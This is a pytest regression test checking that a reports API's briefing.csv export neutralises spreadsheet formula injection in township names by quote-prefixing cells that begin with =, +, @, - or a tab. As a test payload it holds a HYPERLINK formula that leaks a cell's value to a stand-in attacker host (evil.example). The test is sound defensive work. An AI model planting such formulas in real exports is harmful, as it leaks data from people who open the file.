"""Issue 19 item 8: a township named like a spreadsheet formula reaches briefing.csv defused."""

import csv
import io
import uuid
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from fastapi import FastAPI
from sqlalchemy.ext.asyncio import AsyncSession, async_sessionmaker

from tests.reports.app import client, project, reports_app
from tests.reports.events import clue_received

TZ = ZoneInfo("Asia/Shanghai")
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.fixture(scope="module")
async def app(sessions: async_sessionmaker[AsyncSession]) -> FastAPI:
    day = datetime(2024, 5, 6, 9, tzinfo=TZ)
    async with sessions() as session, session.begin():
        for township in (FORMULA, "+1+1", "@SUM(1)", "-2", "\tTAB", "北山街道"):
            await project(session, clue_received(str(uuid.uuid4()), day, township=township))
    return reports_app(sessions)


async def test_formula_cells_are_prefixed_in_briefing_csv(app: FastAPI) -> None:
    async with client(app, "agency:330100.office") as city:
        response = await city.get("/v1/reports/briefing.csv", params={"quarter": "2024Q2"})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    labels = {r["label"] for r in rows if r["level"] == "township"}
    assert "'" + FORMULA in labels
    assert {"'+1+1", "'@SUM(1)", "'-2", "'\tTAB", "北山街道"} <= labels
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+@\t\r" or value.startswith("'"), row
